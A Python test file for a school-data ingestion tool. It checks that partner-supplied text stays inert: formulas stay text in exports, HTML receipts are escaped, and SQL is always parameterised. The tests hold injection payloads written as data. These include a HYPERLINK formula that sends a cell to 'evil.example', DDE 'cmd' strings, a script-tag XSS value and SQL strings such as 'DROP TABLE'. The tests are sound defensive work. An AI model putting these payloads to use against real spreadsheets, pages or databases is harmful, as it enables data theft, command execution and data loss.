"""Partners' text that looks like code: formulas are never a formula in any export, HTML is
escaped, codes that look like SQL harm nothing, and no SQL is built from partner text.

Part of the hostile-input tests: tests/reliability/hostile.py says what they share.
"""

from __future__ import annotations

import ast
import io
import re
import zipfile

import duckdb
import openpyxl
import xlsxwriter

from tests.helpers import write
from tests.reliability.common import GOOD, REPO
from tests.reliability.hostile import (
    HEADER,
    ingest_one,
    receipt_of,
)

# --- formula text: kept as sent, never evaluated on any export -------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _text_xlsx(rows: list[list[object]]) -> bytes:
    """A workbook whose text cells are text, even when they start with = (as a partner typing
    '=... or pasting from another program gets)."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet("data")
    for i, row in enumerate(rows):
        sheet.write_row(i, 0, row)
    book.close()
    return out.getvalue()


def test_formula_text_is_stored_as_sent_and_never_a_formula_in_any_export(tmp_path, cli):
    """Comments, area and partner names and file names that look like formulas: the warehouse
    keeps them verbatim; the published CSV/XLSX, `history --format csv`, the receipts and the
    marked workbook show them as text."""
    from tests.conftest import PARTNERSHIP

    root = tmp_path / "ws"
    (root / "inbox").mkdir(parents=True)
    config = PARTNERSHIP.replace(
        "name: Nord", f"name: '{FORMULAS[0].replace(chr(39), chr(39) * 2)}'"
    )
    config = config.replace("name: Østerbyens skoler", "name: '@SUM(1+1)'")
    (root / "partnership.yaml").write_text(config, encoding="utf-8")
    comments = [f.replace("\r", "\\r") if f.startswith("\r") else f for f in FORMULAS]
    rows = [HEADER] + [
        ["ELEVER_AFGANG_9KL", "0561-OST-N", f"{2000 + i}/{(i + 1) % 100:02d}", 40, comment]
        for i, comment in enumerate(comments)
    ]
    (root / "inbox" / "SKOLE").mkdir(parents=True)
    (root / "inbox" / "SKOLE" / "=1+1.xlsx").write_bytes(_text_xlsx(rows))
    bad = [HEADER, ["ELEVER_AFGANG_9KL", "0561-OST-N", "2023/24", FORMULAS[1], FORMULAS[0]]]
    (root / "inbox" / "SKOLE" / "@afvist.xlsx").write_bytes(_text_xlsx(bad))
    code, out, err = cli("ingest", "--workspace", root)
    assert code == 1, err

    with duckdb.connect(str(root / "warehouse.duckdb"), read_only=True) as con:
        stored = [
            c for (c,) in con.execute("SELECT comment FROM observations ORDER BY period").fetchall()
        ]
    assert stored == [c.strip() for c in comments]  # kept as sent (cells are trimmed)

    # history as CSV: the file names are the partner's text
    code, text, _ = cli("history", "--workspace", root, "--format", "csv")
    assert code == 0
    files = [line.split(",")[3] for line in text.splitlines()[1:]]
    assert sorted(files) == ["'=1+1.xlsx", "'@afvist.xlsx"]

    # the published figures: area and partner names from the configuration
    code, _, err = cli("report", "--workspace", root, "-o", root / "report")
    assert code == 0, err
    csv_text = next((root / "report").glob("*.csv")).read_text(encoding="utf-8-sig")
    assert FORMULAS[0].replace('"', '""') in csv_text
    for line in csv_text.splitlines():
        for cell in line.split(";"):
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r")), line
    book = openpyxl.load_workbook(next((root / "report").glob("*.xlsx")))
    texts = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value == FORMULAS[0] for c in texts)
    assert all(c.data_type == "s" for c in texts)

    # the receipts of the rejected file: JSON keeps the value, HTML escapes it, nothing runs
    receipt = receipt_of(root, "SKOLE", "@afvist.xlsx")
    assert receipt["errors"][0]["value"] == FORMULAS[1]
    html = next((root / "outbox" / "SKOLE").glob("@afvist.*.html")).read_text(encoding="utf-8")
    assert "<script" not in html.lower()

    # the marked workbook: every cell the partner wrote is a text cell, no formula anywhere
    [marked] = (root / "outbox" / "SKOLE").glob("*.marked.xlsx")
    with zipfile.ZipFile(marked) as archive:
        sheets = b"".join(
            archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")
        )
    assert b"<f>" not in sheets and b"<f " not in sheets
    sheet = openpyxl.load_workbook(marked).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert all(cells[t].data_type == "s" for t in FORMULAS[:2])
    assert cells[FORMULAS[1]].quotePrefix  # the cell we marked stays text even when edited


def test_html_in_a_value_is_escaped_in_the_html_receipt(workspace_dir, cli):
    data = (
        ";".join(HEADER) + "\nELEVER_AFGANG_9KL;0561-OST-N;2023/24;<script>alert(1)</script>;x\n"
    ).encode()
    code, receipt, _ = ingest_one(cli, workspace_dir, "<b>.csv", data)
    assert code == 1 and receipt["errors"][0]["value"] == "<script>alert(1)</script>"
    html = next((workspace_dir / "outbox" / "SKOLE").glob("*.html")).read_text(encoding="utf-8")
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<b>.csv" not in html


# --- SQL: partners' text is always a parameter ---------------------------------------------

SQL = [
    "0561-OST-N'; DROP TABLE submissions; --",
    "ELEVER_AFGANG_9KL' OR '1'='1",
    'x"); DELETE FROM observations; --',
]


def test_codes_that_look_like_sql_are_unknown_codes_and_harm_nothing(workspace_dir, cli):
    write(workspace_dir / "inbox" / "SKOLE" / "god.csv", GOOD)
    assert cli("ingest", "--workspace", workspace_dir)[0] == 0
    before = cli("indicators", "--workspace", workspace_dir, "--format", "csv")[1]
    data = (
        "dataelement,område,periode,værdi,kommentar\n"
        f'"{SQL[1]}",0561-OST-N,2023/24,1,"{SQL[2].replace(chr(34), chr(34) * 2)}"\n'
        f'ELEVER_AFGANG_9KL,"{SQL[0]}",2023/24,1,x\n'
    ).encode()
    code, receipt, _ = ingest_one(cli, workspace_dir, "sql.csv", data)
    assert code == 1
    assert [(e["code"], e["value"]) for e in receipt["errors"]] == [
        ("unknown_code", SQL[1]),
        ("unknown_code", SQL[0]),
    ]
    # the same words where free text is allowed are stored as sent
    data = f'dataelement,område,periode,værdi,kommentar\nELEVER_AFGANG_9KL,0561-OST-S,2023/24,7,"{SQL[0]}"\n'.encode()
    code, receipt, _ = ingest_one(cli, workspace_dir, "sql-kommentar.csv", data)
    assert code == 0
    for query in (SQL[0], "0561-OST-N' OR '1'='1"):  # and as a filter on the command line
        code, out, err = cli(
            "indicators", "--workspace", workspace_dir, "--area", query, "--format", "csv"
        )
        assert code in (0, 2) and "Traceback" not in err and "internal_error" not in err
        assert "0561-OST-N" not in out
    assert cli("history", "--workspace", workspace_dir, "--partner", SQL[1])[0] == 2
    with duckdb.connect(str(workspace_dir / "warehouse.duckdb"), read_only=True) as con:
        assert con.execute("SELECT count(*) FROM submissions").fetchall() == [(3,)]
        assert con.execute(
            "SELECT comment FROM observations WHERE area = '0561-OST-S'"
        ).fetchall() == [(SQL[0],)]
    after = cli("indicators", "--workspace", workspace_dir, "--format", "csv")[1]
    assert after.splitlines()[0] == before.splitlines()[0] and len(after) > len(before)


# What may be spliced into SQL text, each reviewed: it is never a partner's value. A new
# interpolation makes test_no_sql_is_built_from_partner_text fail until it is reviewed here.
SAFE_SQL = {
    "schema": "'main' or 'wh', chosen by our code",
    "cutoff": "warehouse.current_cells_sql: a timestamp formatted from a parsed datetime",
    "_quote(path)": "our own warehouse path, quotes doubled",
    "self.table": "temp table names from compute.temp_name (uuid)",
    "self.reported": "temp table name (uuid)",
    "self.elements": "temp table name (uuid)",
    "self.areas": "temp table name (uuid)",
    "table": "temp table name (uuid)",
    "areas": "temp table name (uuid)",
    "view": "registered view name (uuid)",
    "name": "temp table name (uuid)",
    "cells": "temp table name: 'cells' or a uuid name",
    "types": "column list of CREATE TABLE, literal in our code",
    "sexes": "the constant codes of model.SEXES",
    "sql": "figures.current_cells: the text of warehouse.current_cells_sql (areas are a ? parameter)",
    "'AND o.area IN (SELECT unnest(?))' if only_areas else ''": "a literal with a ? parameter",
    "current_cells_sql('main', None, only_areas=True)": "no cutoff; areas are a ? parameter",
    "origins": "the constant codes of model.ORIGINS",
    "warehouse.current_cells_sql('wh', instant)": "see cutoff",
    "warehouse.current_cells_sql('wh', None)": "no cutoff",
    "current_cells_sql('main', None)": "no cutoff",
    "', '.join(KEY)": "our key column names",
    "key": "compute._rows_sql: a literal column list",
    "indicators": "temp table name (uuid)",
    "derived": "temp table name (uuid)",
    "v": "derive._rank_sql: temp table name (uuid)",
    "a": "derive._rank_sql: temp table name (uuid)",
    "e": "derive._rank_sql: temp table name (uuid)",
    "rank": "derive._rank_sql: an int",
    "rule_names": "derive._rank_sql: the constant rule names of derive.RULES",
    "_PERIOD_ORDER": "config/periods.order_sql over a constant column name: built once at import",
    "_order_case('r.sex', SEXES)": "a CASE over the constant model.SEXES",
    "_order_case('r.origin', ORIGINS)": "a CASE over the constant model.ORIGINS",
    "column": "periods.order_sql: a column name written in our code ('r.period')",
    "kinds": "periods.order_sql: CASE clauses from the constants TYPE_ORDER/CANONICAL_PATTERNS",
    "positions": "periods.order_sql: CASE clauses from the constants POSITION/CANONICAL_PATTERNS",
    "sql_codes(SEX_PARTS)": "the constant codes of model.SEX_PARTS",
    "sql_codes(ORIGIN_PARTS)": "the constant codes of model.ORIGIN_PARTS",
    "TOTAL": "the constant code model.TOTAL ('_T')",
    "len(SEX_PARTS)": "an int: how many sex categories model.SEX_PARTS has",
    "len(ORIGIN_PARTS)": "an int: how many origin categories model.ORIGIN_PARTS has",
    "alias": "warehouse.attach: 'wh' or 'src', written in our code",
    "qualifier": "migrations.version: 'wh.' or '', written in our code",
    "columns": "migrations.SUBMISSION_COLUMNS: a literal column list",
    "_quote(lake.catalog)": "the lake's address from partnership.yaml or the environment (the"
    " administrator's, checked by lake.check_catalog), quotes doubled",
    "options": "lake._attach: DATA_PATH (the administrator's folder, quotes doubled), READ_ONLY",
    "_quote(temporary)": "warehouse export: beside the folder the administrator named, quotes doubled",
    "_quote(source)": "warehouse import: the folder the administrator named, quotes doubled",
}
SAFE_SQL_NAMES = re.compile("^(" + "|".join(map(re.escape, SAFE_SQL)) + ")$")


def _sql_interpolations() -> list[tuple[str, int, str]]:
    """Every {expression} inside an f-string passed to .execute()/.sql()/.query() in the code."""
    found = []
    for folder in ("ci_measure", "indicators", "pipelines"):
        for path in sorted((REPO / folder).rglob("*.py")):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            strings = {}
            for node in ast.walk(tree):  # f-strings assigned to a name, then executed
                if isinstance(node, ast.Assign) and isinstance(node.value, ast.JoinedStr):
                    for target in node.targets:
                        if isinstance(target, ast.Name):
                            strings[target.id] = node.value
            for node in ast.walk(tree):  # functions that build SQL text: def ..._sql(...)
                if isinstance(node, ast.FunctionDef) and node.name.endswith("_sql"):
                    for ret in ast.walk(node):
                        if isinstance(ret, ast.Return) and isinstance(ret.value, ast.JoinedStr):
                            for part in ret.value.values:
                                if isinstance(part, ast.FormattedValue):
                                    found.append(
                                        (
                                            str(path.relative_to(REPO)),
                                            ret.lineno,
                                            ast.unparse(part.value),
                                        )
                                    )
            for node in ast.walk(tree):
                if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                    continue
                if (
                    node.func.attr not in ("execute", "sql", "query", "executemany")
                    or not node.args
                ):
                    continue
                sql = node.args[0]
                if isinstance(sql, ast.Name):
                    sql = strings.get(sql.id, sql)
                if isinstance(sql, ast.BinOp) or (
                    isinstance(sql, ast.Call) and getattr(sql.func, "attr", "") == "format"
                ):
                    found.append(
                        (str(path.relative_to(REPO)), node.lineno, "+/.format() on SQL text")
                    )
                if isinstance(sql, ast.JoinedStr):
                    for part in sql.values:
                        if isinstance(part, ast.FormattedValue):
                            found.append(
                                (str(path.relative_to(REPO)), node.lineno, ast.unparse(part.value))
                            )
    return found


def test_no_sql_is_built_from_partner_text():
    """All values reach DuckDB as parameters (?); f-strings only splice in our own names."""
    found = _sql_interpolations()
    assert found, "the scan found no SQL at all: it is looking in the wrong place"
    unsafe = [f for f in found if not SAFE_SQL_NAMES.match(f[2])]
    assert unsafe == [], unsafe


def test_the_sql_scan_would_catch_a_value_spliced_into_sql(tmp_path, monkeypatch):
    code = "def f(con, area):\n    con.execute(f\"SELECT * FROM o WHERE area = '{area}'\")\n"
    tree = ast.parse(code)
    call = next(
        n
        for n in ast.walk(tree)
        if isinstance(n, ast.Call) and getattr(n.func, "attr", "") == "execute"
    )
    [part] = [p for p in call.args[0].values if isinstance(p, ast.FormattedValue)]
    assert not SAFE_SQL_NAMES.match(ast.unparse(part.value))
